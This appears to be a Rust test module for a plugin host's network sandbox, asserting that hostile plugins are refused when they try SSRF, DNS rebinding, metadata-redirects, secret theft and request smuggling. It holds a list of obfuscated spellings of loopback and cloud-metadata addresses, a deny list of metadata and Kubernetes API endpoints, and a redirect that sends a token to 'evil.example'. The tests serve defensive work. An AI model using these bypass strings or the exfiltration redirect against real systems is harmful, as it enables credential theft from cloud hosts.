//! Attacks through the one door to the network (9 to 14, and the half of 17 that is HTTP).

use std::collections::VecDeque;
use std::io;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use sluice_core::plugin::Outcome;
use sluice_core::port::BoxFuture;
use sluice_plugins::{HostOptions, Resolve};

use super::bare;
use crate::ground::{Ground, Setting, child, operator};
use crate::server::{self, Server};
use crate::support::{with_lines, with_token};

const SECRET: &str = "xoxb-very-secret-0815";
/// Other spellings of this machine and of the metadata address.
const SPELLINGS: [&str; 16] = [
    "http://2130706433",
    "http://0x7f000001",
    "http://0177.0.0.1",
    "http://127.1",
    "http://2852039166",
    "http://0xa9.0xfe.0xa9.0xfe",
    "http://[::ffff:169.254.169.254]",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]",
    "http://[2002:a9fe:a9fe::]",
    "http://[64:ff9b::a9fe:a9fe]",
    "http://granted.example@169.254.169.254",
    "http://169.254.169.254#@granted.example",
    "http://169.254.169.254.",
    "http://１６９.254.169.254",
    "http://169.254.169.254:0080",
    "http://127.0.0.1:65616",
];

fn granted(url: &str) -> Setting {
    Setting {
        grants: json!({ "http": { "echo": {
            "url": url, "methods": ["GET", "POST"], "paths": ["/*"], "secrets": ["token"],
            "allowLoopback": true, "plaintextSecrets": true,
        } }, "limits": { "cpu-ms": 5000 } }),
        secrets: json!({ "token": { "secret": "hostile", "key": "token" } }),
        options: with_token(child(&[]), "hostile", SECRET),
    }
}

pub(crate) fn to_echo() -> Value {
    json!({ "attack": "fetch", "target": "echo" })
}

pub(crate) async fn spellings() -> String {
    let mut ground = bare(json!({})).await;
    for spelling in SPELLINGS {
        ground.pods = vec![spelling.to_owned()];
        let ended = ground.ending("fetch").await;
        // No place to ask, or none that may be asked.
        let refused = ended.contains("no ready") || ended.contains("NotGranted");
        assert!(refused, "{spelling}: {ended}");
        let setting = granted(spelling);
        ground.folder.put("plugins.yaml", operator(&setting, &[]));
        let refused = !ground.host.reload().await.is_empty();
        let ended = ground.hostile_with(to_echo()).await.unwrap().summary;
        assert!(
            refused || ended.contains("NotGranted"),
            "{spelling}: {ended}"
        );
    }
    format!(
        "{} spellings refused, as a pod and as a grant",
        SPELLINGS.len()
    )
}

pub(crate) async fn spelled(ground: &Ground) {
    for spelling in SPELLINGS {
        let pods = [spelling.to_owned()];
        let call = crate::support::invocation(json!({ "attack": "fetch" }), &pods);
        let _ = crate::support::smoke(&ground.host, "hostile", call).await;
    }
}

/// A name server that changes its mind: the first answer once, then the second for ever.
struct Fickle(Mutex<VecDeque<SocketAddr>>);

impl Resolve for Fickle {
    fn resolve<'a>(&'a self, _: &'a str, _: u16) -> BoxFuture<'a, io::Result<Vec<SocketAddr>>> {
        let mut answers = self.0.lock().unwrap();
        let answer = match answers.len() {
            1 => answers[0],
            _ => answers.pop_front().unwrap(),
        };
        Box::pin(async move { Ok(vec![answer]) })
    }
}

pub(crate) async fn rebound() -> Ground {
    let server = server::start(|_| server::text("hello")).await;
    let address = server.url().trim_start_matches("http://").parse().unwrap();
    let metadata = "169.254.169.254:80".parse().unwrap();
    let fickle = Fickle(Mutex::new(VecDeque::from([address, metadata])));
    let setting = Setting {
        options: HostOptions {
            resolver: Arc::new(fickle),
            ..with_token(child(&[]), "hostile", SECRET)
        },
        ..granted("http://rebind.example")
    };
    let mut ground = Ground::new(setting).await;
    ground.servers.push(Box::new(server));
    ground
}

pub(crate) async fn rebinding() -> String {
    let ground = rebound().await;
    let first = ground.hostile_with(to_echo()).await.unwrap();
    assert_eq!(first.outcome, Outcome::Pass, "{}", first.summary);
    for _ in 0..3 {
        let later = ground.hostile_with(to_echo()).await.unwrap();
        assert!(later.summary.contains("NotGranted"), "{}", later.summary);
    }
    "resolved once a request; the second answer is refused".to_owned()
}

/// The attacker's pod is this server.
async fn beside(pod: server::Server) -> Ground {
    let mut ground = bare(json!({})).await;
    ground.pods = vec![pod.url()];
    ground.servers.push(Box::new(pod));
    ground
}

pub(crate) async fn redirecting() -> Ground {
    let pod = server::start(|_| {
        http::Response::builder()
            .status(302)
            .header("location", "http://169.254.169.254/latest/meta-data")
            .body(Default::default())
            .unwrap()
    })
    .await;
    beside(pod).await
}

pub(crate) async fn redirects() -> String {
    let ended = redirecting().await.ending("fetch").await;
    assert!(
        ended.starts_with("302 ") && ended.contains("location: http://169.254.169.254"),
        "{ended}"
    );
    "302 is told, and not followed".to_owned()
}

pub(crate) async fn to_metadata() -> Ground {
    Ground::new(granted("http://169.254.169.254")).await
}

pub(crate) async fn forbidden() -> String {
    let api_server = HostOptions {
        denied_addresses: vec!["10.96.0.1/32".parse().unwrap()],
        ..with_token(child(&[]), "hostile", SECRET)
    };
    let ground = Ground::new(Setting {
        options: api_server,
        ..granted("http://169.254.169.254")
    })
    .await;
    let places = [
        "http://169.254.169.254",
        "http://100.100.100.200",
        "http://168.63.129.16",
        "http://192.0.0.192",
        "http://[fd00:ec2::254]",
        "http://[fe80::1]",
        "https://10.0.0.7:10250",
        "https://10.96.0.1:443",
    ];
    for place in places {
        let mut setting = granted(place);
        setting.grants["http"]["echo"]["type"] = json!("cluster-service");
        ground.folder.put("plugins.yaml", operator(&setting, &[]));
        let cards = ground.host.reload().await;
        let ended = ground.hostile_with(to_echo()).await.unwrap().summary;
        assert!(ended.contains("NotGranted"), "{place}: {ended} {cards:?}");
    }
    format!("{} places refused though granted", places.len())
}

/// A server that gives back what it is sent, in the body and in headers.
async fn echo() -> Server {
    server::start(|seen| {
        let secret = seen.header("authorization").to_owned();
        match seen.uri.path() {
            "/header" => http::Response::builder()
                .header("x-request-id", &secret)
                .header("set-cookie", &secret)
                .body(Default::default())
                .unwrap(),
            "/redirect" => http::Response::builder()
                .status(307)
                .header("location", format!("https://evil.example/?{secret}"))
                .body(Default::default())
                .unwrap(),
            _ => server::text(&format!("you sent {secret}!")),
        }
    })
    .await
}

pub(crate) async fn echoing() -> Ground {
    let echo = echo().await;
    let mut ground = Ground::new(granted(&echo.url())).await;
    ground.servers.push(Box::new(echo));
    ground
}

pub(crate) fn scan() -> Value {
    let masked: String = SECRET
        .bytes()
        .map(|byte| format!("{:02x}", byte ^ 0x5a))
        .collect();
    json!({ "attack": "scan", "masked": masked, "paths": "/body,/header,/redirect" })
}

pub(crate) async fn theft() -> String {
    let echo = echo().await;
    let (options, lines) = with_lines();
    let setting = Setting {
        options: with_token(options, "hostile", SECRET),
        ..granted(&echo.url())
    };
    let ground = Ground::new(setting).await;
    let report = ground.hostile_with(scan()).await.unwrap();
    assert!(
        report.summary.starts_with("3 answered; found 0 times"),
        "{}",
        report.summary
    );
    let thief = ground.hostile("theft").await.unwrap();
    let told = format!("{report:?} {thief:?} {:?}", lines.taken());
    assert!(!told.contains(SECRET) && told.contains("[redacted:token]"));
    let sent = echo.requests();
    assert!(
        sent.iter()
            .all(|seen| seen.header("authorization") == format!("Bearer {SECRET}"))
    );
    let mut planted = scan();
    planted["planted"] = json!("yes");
    let planted = ground.hostile_with(planted).await.unwrap().summary;
    assert!(
        !planted.contains("found 0 times"),
        "the scan is blind: {planted}"
    );
    report.summary
}

pub(crate) async fn smuggling() -> String {
    let echo = echo().await;
    let ground = Ground::new(granted(&echo.url())).await;
    let settings = json!({ "attack": "smuggle", "target": "echo" });
    let ended = ground.hostile_with(settings).await.unwrap().summary;
    assert!(ended.starts_with("0 of 24 went through"), "{ended}");
    assert_eq!(echo.requests().len(), 0);
    "24 tries refused; the server saw none".to_owned()
}

pub(crate) async fn compressing() -> Ground {
    let pod = server::start(|_| {
        // Not packed at all: whoever unpacks it fails.
        http::Response::builder()
            .header("content-encoding", "gzip")
            .body("as it was sent".into())
            .unwrap()
    })
    .await;
    beside(pod).await
}

pub(crate) async fn compressed() -> String {
    let ended = compressing().await.ending("fetch").await;
    assert!(ended.ends_with("as it was sent"), "{ended}");
    "responses are not unpacked; layers of artifacts neither (tests of the registry client)"
        .to_owned()
}
